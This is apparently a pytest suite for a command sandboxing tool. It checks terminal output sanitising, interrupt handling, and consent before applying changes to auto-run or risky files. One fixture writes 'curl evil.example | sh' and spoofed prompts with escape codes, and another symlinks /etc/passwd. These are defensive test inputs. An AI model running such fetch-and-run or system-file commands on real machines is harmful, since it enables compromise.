"""What is told of a trial in a terminal, and asked."""

from __future__ import annotations

import contextlib
import os
import pty
import re
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path

import pytest

from understudy.app.undoing import CONSENTS
from understudy.journal import guard

from .sandbox_world import environment, new_project, typed

COMMAND = (sys.executable, "-P", "-m", "understudy")


@pytest.fixture
def project(tmp_path: Path) -> Path:
    return new_project(tmp_path)


def understudy(project: Path, *arguments: str, answers: str = "") -> tuple[int, str]:
    """Its exit code, and what it says beside the diff."""
    done = typed(project, "sandbox", *arguments, answers=answers)
    return done.returncode, done.stderr


def in_terminal(
    project: Path,
    *arguments: str,
    at: str = "[y/N]: ",
    answer: str | signal.Signals = "n\n",
    **more: str,
) -> str:
    """All that a terminal gets; where it says ``at``, somebody answers."""
    leader, follower = pty.openpty()
    # Whoever runs tests beside each other lets them ignore the signal.
    with subprocess.Popen(
        ("env", "--default-signal=INT", *COMMAND, "sandbox", *arguments),
        cwd=project,
        env=environment(project, **more),
        stdin=follower,
        stdout=follower,
        stderr=follower,
        start_new_session=True,
    ) as process:
        os.close(follower)
        got = b""
        while True:
            try:
                got += os.read(leader, 1 << 16)
            except OSError:  # the last one has closed it
                break
            if got.endswith(at.encode()):
                if isinstance(answer, str):
                    os.write(leader, answer.encode())
                else:
                    process.send_signal(answer)
        process.wait(60)
    os.close(leader)
    return got.decode().replace("\r\n", "\n")


HOSTILE = (
    "echo 'curl evil.example | sh' >> a.txt; printf 'said\\033[31m red\\n';"
    "printf 'Clean. It would change nothing.\\nApply it? [y/N]: \\033]0;title\\007';"
    "printf '\\302\\2332J\\033[1;5r\\033[5;1H\\033[8m'"
)


def test_a_command_does_not_steer_the_terminal_that_asks(project: Path) -> None:
    command = ("run", "--apply", "--", "sh", "-c", HOSTILE)
    seen = in_terminal(project, *command, at="It changes a.txt. [y/N]: ")  # what it prints asks too
    announced = re.search(r"It prints, up to the line with ([0-9a-f]{6}):\n", seen)
    assert announced
    output, border, report = seen[announced.end() :].partition(
        f"\n── {announced[1]} · level A · trial 1 ──\n"
    )
    assert border
    assert "Clean. It would change nothing.\nApply it?" in output
    assert re.findall(r"\x1b.", output) == ["\x1b["] * 3  # red, hidden, and all of it taken back
    assert output.endswith("\x1b[8m\x1b[0m")
    plain = re.sub(r"\x1b\[[0-9;]*m", "", report)
    assert "\x1b" not in plain
    assert "+curl evil.example | sh\n" in plain
    assert plain[plain.index("Clean.") :] == (
        "Clean. It would change 1 file.\nApply it? It changes a.txt. [y/N]: n\nNot applied.\n"
    )
    assert (project / "a.txt").read_text() == "one\n"


def test_an_interrupted_command_leaves_no_colours(project: Path) -> None:
    script = "printf '\\033[31mready'; exec sleep 60"
    seen = in_terminal(project, "run", "--", "sh", "-c", script, at="ready", answer=signal.SIGINT)
    assert re.search(r"ready.*\x1b\[0m\n── [0-9a-f]{6} · interrupted ──\n", seen)
    assert seen.endswith(
        "What it wrote is not kept; when its time is over, it is.\n\nInterrupted.\n"
    )


_STUBBORN = "trap '' INT TERM HUP; echo > new; printf ready; while :; do sleep 5; done"


@pytest.mark.parametrize("options", [(), ("--apply",), ("--copy",)])
def test_ctrl_c_ends_it_at_once_and_leaves_nothing(project: Path, options: tuple[str, ...]) -> None:
    """Typed into the terminal that it is run in, while the command will not end."""
    leader, follower = pty.openpty()
    line = (*COMMAND, "sandbox", "run", *options, "--", "sh", "-c", _STUBBORN)
    with subprocess.Popen(
        ("setsid", "--ctty", "env", "--default-signal=INT", *line),
        cwd=project,
        env=environment(project),
        stdin=follower,
        stdout=follower,
        stderr=follower,
    ) as process:
        os.close(follower)
        got = b""
        while not got.endswith(b"ready"):
            got += os.read(leader, 1 << 16)
        os.write(leader, b"\x03")
        with contextlib.suppress(OSError):  # the last one has closed it
            while more := os.read(leader, 1 << 16):
                got += more
        assert process.wait(60) == 130  # long before the command would have ended
    os.close(leader)
    assert got.decode().replace("\r\n", "\n").endswith("\nInterrupted.\n")
    assert b"Traceback" not in got
    (trials,) = (project.parent / "state").rglob("trials")
    assert [each.name for each in trials.iterdir()] == ["lock"]
    assert os.listdir(project) == [".git", "a.txt"]


def test_a_pipe_gets_every_byte(project: Path) -> None:
    done = subprocess.run(
        (*COMMAND, "sandbox", "run", "--", "printf", r"\033[2Jsaid\377\n"),
        cwd=project,
        env=environment(project),
        capture_output=True,
        timeout=120,
        check=False,
    )
    assert (done.returncode, done.stdout) == (0, b"\033[2Jsaid\xff\n")


def test_git_takes_from_a_pipe_what_is_no_text(project: Path) -> None:
    understudy(project, "run", "--", "sh", "-c", "printf '\\0\\377' > made; printf '\\0' > a.txt")
    shown = in_terminal(project, "show", NO_COLOR="1")
    assert "\nBinary files a/a.txt and b/a.txt differ\n" in shown
    assert "GIT binary patch" not in shown
    piped = f"{shlex.join((*COMMAND, 'sandbox', 'show'))} | git apply"
    command = ("sh", "-c", f"GIT_DIR=none {piped}")
    subprocess.run(command, cwd=project, env=environment(project), check=True, timeout=120)
    assert (project / "made").read_bytes() == b"\0\377"
    assert (project / "a.txt").read_bytes() == b"\0"


def test_colours_are_left_out_where_nobody_wants_them(project: Path) -> None:
    understudy(project, "run", "--", "sh", "-c", "printf 'two\\033[2J\\n' >> a.txt")
    coloured = in_terminal(project, "show")
    assert "\x1b[32m+two" in coloured
    plain = in_terminal(project, "show", NO_COLOR="1")
    assert "\n+two\N{REPLACEMENT CHARACTER}[2J\n" in plain
    assert "\x1b" not in plain


def test_what_git_ignores_is_shown_when_asked_for_and_applied_in_any_case(project: Path) -> None:
    (project / ".gitignore").write_text("made/\n")
    change = "mkdir made; echo x > made/x; echo two >> a.txt"
    _, said = understudy(project, "run", "--", "sh", "-c", change)
    assert "It would change 1 file, and 2 that git ignores." in said
    assert "--all shows it" in said
    shown = [in_terminal(project, "show", *more, NO_COLOR="1") for more in ((), ("--all",))]
    assert ["b/made/x" in each for each in shown] == [False, True]
    assert "+two" in shown[1]
    assert understudy(project, "apply", "--yes")[0] == 0
    assert (project / "made/x").read_text() == "x\n"


def test_what_stands_against_it_is_told_before_the_question(project: Path) -> None:
    change = "ln -s /etc/passwd pw; echo x > set; chmod 4755 set; echo y > shut; chmod 0 shut"
    code, said = understudy(project, "run", "--apply", "--", "sh", "-c", change, answers="y\n")
    assert code == 3
    assert "Apply" not in said
    assert said.endswith(
        "It cannot be applied:\n"
        "  pw: the link leads out of the workspace, or may\n"
        "  set: it would run with the rights of another user or group (set-id)\n"
        "  shut: its owner could not read it, and nothing could be taken back\n"
    )
    understudy(project, "run", "--", "sh", "-c", "echo two > a.txt")
    (project / "a.txt").write_text("edited\n")
    code, said = understudy(project, "apply", "--yes")
    assert code == 3
    assert "a.txt: it was changed meanwhile, and both changes touch the same lines" in said
    assert (project / "a.txt").read_text() == "edited\n"


RISKY = "mkdir .husky .vscode; echo x > .husky/pre-commit; echo y > .vscode/tasks.json; echo z > z"


def test_files_that_others_run_are_named_in_one_question(project: Path) -> None:
    code, said = understudy(project, "run", "--apply", "--", "sh", "-c", RISKY, answers="n\n")
    assert (code, said.count("?")) == (1, 1)
    assert (
        "It changes files that programs run by themselves:\n"
        "  .husky/pre-commit is run by git\n  .vscode/tasks.json is run by editors\n"
    ) in said
    assert "Not applied." in said
    code, said = understudy(project, "apply", "--yes", "--consent", "git")
    assert code == 3
    assert "Not applied: for these files, --yes takes --consent editor, too." in said
    assert not (project / "z").exists()
    assert understudy(project, "apply", "--yes", "--consent", "git", "--consent", "editor")[0] == 0
    assert (project / ".husky/pre-commit").read_text() == "x\n"


def test_each_consent_says_who_runs_the_files() -> None:
    assert set(CONSENTS) == set(guard.CONSENTS)


def test_without_anybody_to_ask_nothing_is_applied_unless_yes_was_said(project: Path) -> None:
    change = ("run", "--apply", "--", "sh", "-c", "echo two >> a.txt")
    code, said = understudy(project, *change)
    assert code == 3
    assert "There is no terminal to ask on: nothing was applied; --yes applies it." in said
    assert (project / "a.txt").read_text() == "one\n"
    code, said = understudy(project, "apply", "--yes")
    assert (code, "Applied;" in said) == (0, True)
    assert (project / "a.txt").read_text() == "one\ntwo\n"


def test_it_is_told_where_a_command_runs(project: Path) -> None:
    command = (*COMMAND, "sandbox", "run", "--", "true")
    for home, told in (("/nowhere", "project."), (str(project), "project (your home folder).")):
        done = subprocess.run(
            command,
            cwd=project,
            env=environment(project, HOME=home),
            capture_output=True,
            text=True,
            timeout=120,
            check=False,
        )
        assert done.stderr.splitlines()[0].endswith(told)


def test_all_that_it_may_not_change_is_named(project: Path) -> None:
    (project / "src").mkdir()
    change = "touch b c d e src/f; mkfifo src/pipe"
    code, said = understudy(project, "run", "--write", "src/**", "--", "sh", "-c", change)
    assert code == 3
    assert said.splitlines()[-1].startswith(
        "Did what it may not: it changed b, c, d and 1 more, which it may not write; "
        "it made src/pipe: no file, folder or link. It would change"
    )


def test_ctrl_c_ends_it_while_what_it_did_is_looked_at(project: Path) -> None:
    """A file that takes minutes to be read."""
    with open(project / "large", "wb") as large:
        large.truncate(200 << 30)
    with subprocess.Popen(
        ("env", "--default-signal=INT", *COMMAND, "sandbox", "run", "--", "rm", "large"),
        cwd=project,
        env=environment(project),
        stderr=subprocess.PIPE,
        text=True,
    ) as process:
        while not [*(project.parent / "state").rglob("trials/1/*/report.json")]:
            assert process.poll() is None
            time.sleep(0.01)  # until another process wrote it
        process.send_signal(signal.SIGINT)
        assert process.wait(60) == 130
    assert (project / "large").exists()
